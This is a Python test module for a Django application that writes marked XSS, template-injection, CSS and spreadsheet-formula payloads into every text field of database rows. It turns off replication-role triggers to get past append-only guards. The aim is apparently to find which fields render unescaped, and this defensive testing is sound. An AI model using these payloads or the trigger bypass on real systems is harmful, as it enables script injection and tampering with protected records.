"""Thirty texts that want to be markup, script, template or formula, and a database full of them.

Each field has a mark of its own, which its texts carry at every place that must stay inert: a find names the field.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import accumulate
from typing import Any

from django.apps import apps
from django.core.exceptions import ValidationError
from django.db import IntegrityError, connection, models, transaction

from core.crypto import EncryptedJSONField, EncryptedTextField

# `~` is the mark.
PAYLOADS = (
    "<script>~()</script>",
    "<ScRiPt/src=//~.example></sCrIpT>",
    "</script><script>~()</script>",
    "</textarea></title></style><img src=x onerror=~()>",
    '"><svg/onload=~()>',
    "'><img src=x onerror='~()'>",
    '" onfocus="~()" autofocus="',
    "' onmouseover='~()' x='",
    "` onclick=~() `",
    '<a href="javascript:~()">x</a>',
    "<a href=' &#x6A;ava\tscript&colon;~()'>x</a>",
    "javascript:~()//",
    "data:text/html,<script>~()</script>",
    '<iframe srcdoc="<script>~()</script>"></iframe>',
    "<svg><script>~()</script><animate onbegin=~() attributeName=x></svg>",
    "<math><mtext></mtext><style><img src=x onerror=~()></style></math>",
    "<!--><img src=x onerror=~()>-->",
    "<base href=//~.example><meta http-equiv=refresh content='0;url=javascript:~()'>",
    "<form action=javascript:~()><button formaction=javascript:~() id=~>x</button></form>",
    '{{ "evil"|add:"eval" }}{{ ~ }}',
    '{% filter upper %}~ evaled{% endfilter %}{% include "~" %}',
    "${~()} #{~()} <%= ~() %> %(~)s %s {~} {0.__class__}",
    '<div x-data="~()" x-init="~()" @click="~()">x</div>',
    '" x-on:click="~()" x-data="{q: ~()}" :class="~()',
    "<b hx-get=/~ hx-trigger=load hx-on::load=~()>x</b>",
    '" hx-on:click="~()" hx-vals="js:{q: ~()}',
    "<style>@import '//~.example'; * {background: url(javascript:~())}</style>",
    '" style="background:url(//~.example)" class="~',
    "\uff1cscript\uff1e~()\uff1c/script\uff1e \u202e<scr\u200bipt id=~>\u2028</script>",
    '=HYPERLINK("//~.example";"x")',
)
# For what is too short for one of those.
SHORT = ("<b id=~>", '"~="', "<~>", "'~='")
# What stands before: a spreadsheet computes a cell that begins so.
LEADS = ("=", "+", "-", "@", "\t=", "\r=")
MARK = re.compile(r"q\d{3}q")
# What only a template engine would write, and the texts ask it to.
EVALUATED = ("evileval", "EVALED")

APPS = ("core", "commerce", "analytics", "axes", "django_celery_beat")
# Nothing shows these to anybody; an import is looked at by a test of its own.
UNSEEN = {
    *("core.ImportRun", "axes.AccessFailureLog", "core.IdempotencyKey", "commerce.VerificationCode"),
    *("core.KeptHistory", "core.HistoryColumns", "core.ChangedHistory"),
    *("analytics.DailyProduct", "analytics.DailyParty", "analytics.RollupState"),
}
TEXTS = (models.CharField, models.TextField, models.JSONField, EncryptedTextField, EncryptedJSONField)
# Not words but names of something in the code, which nobody can write: what is not among them is refused or breaks.
NAMES = {
    *(
        "core.CheckRun.kind",
        "core.CheckRun.results",
        "core.CheckRun.figures",
        "core.ImportRun.resource",
        "core.SiteSettings.page",
    ),
    *("core.User.password", "core.User.timezone", "core.User.language"),
    *("core.SiteSettings.values"),
    *("commerce.Provider.adapter", "commerce.Provider.options", "commerce.RecipientField.kind"),
    *("commerce.Payment.gateway", "commerce.Order.price_explanation", "commerce.Quote.price"),
    *("commerce.ApiKey.digest", "commerce.TicketAttachment.path", "commerce.TicketAttachment.content_type"),
    *("commerce.Account.code", "commerce.Delivery.sim_type"),
    # Written by the database, or shapes of ours: what papers freeze of people's words has a test of its own.
    *(
        f"commerce.Document.{name}"
        for name in ("number", "code", "zone", "language", "content", "digest", "currency")
    ),
    *("commerce.DocumentLetterhead.digest", "commerce.DocumentLetterhead.content"),
    *("commerce.DocumentSeries.kind", "commerce.DocumentBatch.zone"),
    *("commerce.StatementSource.columns", "commerce.StatementSource.gateway"),
    *("commerce.StatementSource.time_zone", "commerce.StatementLine.key"),
    *(
        "commerce.ImportedStatement.digest",
        "commerce.ReconciliationBreak.our_status",
        "commerce.SignOff.figures",
    ),
    *(f"commerce.ClosedMonth.{name}" for name in ("zone", "figures", "digest", "open_items")),
    *("django_celery_beat.PeriodicTask.args", "django_celery_beat.PeriodicTask.kwargs"),
    "django_celery_beat.PeriodicTask.headers",
    *("core.Approval.kind", "core.Approval.payload", "core.Approval.state", "core.Approval.fingerprint"),
    *("core.Broadcast.audiences", "core.Broadcast.channels", "core.Broadcast.cursors"),
    *(
        f"core.{model}.{name}"
        for model in ("MessageTemplate", "MessagePreference")
        for name in ("event", "channel")
    ),
    *("core.MessageTemplate.language", "core.SavedView.list_name", "core.FirstView.list_name"),
    # What stands beside an object is found by them.
    *(
        f"core.{model}.{name}"
        for model in ("Approval", "Note", "Watch")
        for name in ("subject_kind", "subject_id")
    ),
    *("core.SecondFactor.secret", "core.RecoveryCode.digest"),
    *("analytics.Report.dataset", "analytics.ReportColumn.column", "analytics.ReportFilter.column"),
    *(
        f"analytics.ReportRun.{name}"
        for name in ("kind", "key", "zone", "language", "asked", "path", "sha256")
    ),
    *(
        f"analytics.ReportSchedule.{name}"
        for name in ("kind", "key", "answers", "zone", "language", "formats", "cron")
    ),
}
LONGEST, ROWS = 6_000, 8


@dataclass
class Poisoned:
    """What was written where."""

    marks: dict[str, str] = field(default_factory=dict)  # mark → field
    refused: dict[str, str] = field(default_factory=dict)  # field → why nothing of the kind fits in
    empty: list[str] = field(default_factory=list)  # models without a row

    def mark(self, name: str) -> str:
        mark = f"q{len(self.marks):03}q"
        self.marks[mark] = name
        return mark

    def named(self, found: str) -> str:
        """The field a find came from."""
        return ", ".join(sorted({self.marks.get(mark, mark) for mark in MARK.findall(found)}))


def poison() -> Poisoned:
    """Write the texts into every text field of every row there is, past all guards: as old data or a bug would."""
    done = Poisoned()
    with connection.cursor() as cursor:
        # Append-only tables take no changes otherwise.
        cursor.execute("SET LOCAL session_replication_role = replica")
    for model in walked():
        values = {}
        for one in texts_of(model):
            value = _value(one, done)
            if value is not None:
                values[one.name] = value
        rows = list(model._base_manager.order_by("-pk").values_list("pk", flat=True)[:ROWS])
        if values and not rows:
            done.empty.append(model._meta.label)
        for pk in rows:
            _write(model, pk, values)
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = DEFAULT")
    return done


def walked() -> list[type[models.Model]]:
    """Every table that staff see something of, their histories included."""
    return [
        model
        for model in apps.get_models()
        if model._meta.app_label in APPS
        and model._meta.managed
        and not model._meta.proxy
        and model._meta.label not in UNSEEN
    ]


def texts_of(model: type[models.Model]) -> Iterator["models.Field[Any, Any]"]:
    for one in model._meta.concrete_fields:
        name = f"{model._meta.label}.{one.name}".replace("Historical", "")
        if isinstance(one, TEXTS) and not one.choices and name not in NAMES:
            yield one


def _write(model: type[models.Model], pk: Any, values: dict[str, Any]) -> None:
    row = model._base_manager.filter(pk=pk)
    if isinstance(values.get("data"), dict):
        old = row.values_list("data", flat=True).get()
        values = {**values, "data": {**dict.fromkeys(old, next(iter(values["data"]))), **values["data"]}}
    try:
        with transaction.atomic():
            row.update(**values)
    except IntegrityError:
        # One row alone can have it.
        unique = {name for group in _unique(model) for name in group}
        with transaction.atomic():
            row.update(**{name: value for name, value in values.items() if name not in unique})


def _unique(model: type[models.Model]) -> Iterator[tuple[str, ...]]:
    yield from ((one.name,) for one in model._meta.concrete_fields if one.unique)
    for constraint in model._meta.constraints:
        if isinstance(constraint, models.UniqueConstraint):
            yield tuple(constraint.fields)
            yield tuple(
                source.name
                for expression in constraint.expressions
                for source in expression.flatten()
                if isinstance(source, models.F)
            )


def _value(one: "models.Field[Any, Any]", done: Poisoned) -> Any:
    name = f"{one.model._meta.label}.{one.name}"
    mark = done.mark(name)
    for text in candidates(len(done.marks), mark, one.max_length or LONGEST, email=_is_email(one)):
        value = {text: text, "text": [text, {"inner": text}]} if _is_json(one) else text
        try:
            if not _is_json(one):
                one.run_validators(text)
        except ValidationError as error:
            done.refused[name] = str(error.messages[0])
            continue
        done.refused.pop(name, None)
        return value
    done.refused.setdefault(name, f"{one.max_length} characters")
    return None


def _is_email(one: Any) -> bool:
    return isinstance(one, models.EmailField)


def _is_json(one: Any) -> bool:
    return isinstance(one, models.JSONField | EncryptedJSONField)


def candidates(turn: int, mark: str, longest: int, *, email: bool = False) -> Iterator[str]:
    """The texts for a field, the most first: all that fit, beginning with another one for each field."""
    if email:
        yield f'"<svg/onload={mark}()>{turn}"@example.com'
        return
    turned = [*PAYLOADS[turn % len(PAYLOADS) :], *PAYLOADS[: turn % len(PAYLOADS)]]
    marked = [text.replace("~", mark) for text in turned]
    joined = list(accumulate(marked, lambda before, text: f"{before} {text}"))
    for lead in (LEADS[turn % len(LEADS)], ""):
        yield from (lead + text for text in reversed(joined) if len(lead + text) <= longest)
    yield from (text for text in marked if len(text) <= longest)
    yield from (text.replace("~", mark) for text in SHORT if len(text.replace("~", mark)) <= longest)
